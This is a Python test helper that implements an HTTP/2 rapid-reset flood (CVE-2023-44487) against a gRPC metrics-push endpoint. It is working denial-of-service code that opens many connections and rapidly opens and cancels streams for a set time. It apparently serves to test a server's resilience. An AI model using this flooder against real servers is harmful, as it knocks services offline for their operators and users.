"""h2-rapid-reset.py: an HTTP/2 rapid-reset flooder (CVE-2023-44487) for the
tests, built on Debian's python3-h2: CONNS plaintext connections to
HOST:PORT each send HEADERS for the push method and RST_STREAM(CANCEL) right
after, as fast as the socket takes them, for SECONDS; bounded in time, it
stops by itself. Prints "streams N" (streams opened and reset).

    python3 tests/lib/h2-rapid-reset.py HOST PORT SECONDS CONNS
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions


def main():
    host, port, secs, conns = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    peers = []
    for _ in range(conns):
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        s.sendall(c.data_to_send())
        peers.append((s, c))
    headers = [(':method', 'POST'), (':scheme', 'http'), (':path', '/cadet.v1.MetricsPush/Push'),
               (':authority', host), ('content-type', 'application/grpc'), ('te', 'trailers')]
    end = time.monotonic() + secs
    n = 0
    while peers and time.monotonic() < end:
        for s, c in list(peers):
            try:
                for _ in range(50):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, headers)
                    c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    n += 1
                s.sendall(c.data_to_send())
            except BlockingIOError:
                pass  # the server reads slower than we write: keep the frames for later
            except (OSError, h2.exceptions.ProtocolError) as e:
                print("connection closed by the server:", e)
                peers.remove((s, c))
                continue
            try:
                data = s.recv(65536)
                if data:
                    c.receive_data(data)
            except (BlockingIOError, h2.exceptions.ProtocolError):
                pass
            except OSError:
                pass
    for s, _ in peers:
        s.close()
    print("streams", n)


if __name__ == '__main__':
    main()
